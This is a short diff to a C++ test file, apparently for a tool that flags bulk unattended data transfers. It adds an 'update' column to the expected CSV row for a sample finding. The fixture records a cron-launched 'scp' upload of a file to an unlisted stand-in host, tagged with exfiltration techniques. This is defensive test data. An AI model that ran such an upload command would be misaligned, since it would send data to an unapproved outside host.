@@ -59,13 +59,14 @@ TEST_CASE("CSV: findings have DESIGN's columns") {
   append_csv(out, sample::finding());
   CHECK(out ==
         "finding,rule,severity,host,role,start,end,address,port,bytes_out,basis,limit_bytes,"
-        "window_s,tool,user,auid_user,automation,job,script,command,reasons,transfers,technique\r\n"
+        "window_s,tool,user,auid_user,automation,job,script,command,reasons,transfers,technique,"
+        "update\r\n"
         "00000000000000ab,bulk-unattended,high,etl-01,default,2026-12-02T01:02:01.113Z,"
         "2026-12-02T01:02:04.870Z,203.0.113.11,22,3153717,measured,1048576,86400,scp,root,root,"
         "unattended,cron: /bin/sh -c scp -q f drop@203.0.113.11:up/,,"
         "scp -q f drop@203.0.113.11:up/,"
         "\"started by cron (pid 311); 203.0.113.11 is on no allowlist\",9f0c000000000001,"
-        "\"T1071.002; T1048\"\r\n");
+        "\"T1071.002; T1048\",no\r\n");
 }
 
 TEST_CASE("CSV: one row a finding and destination; unknown is empty, never 0") {
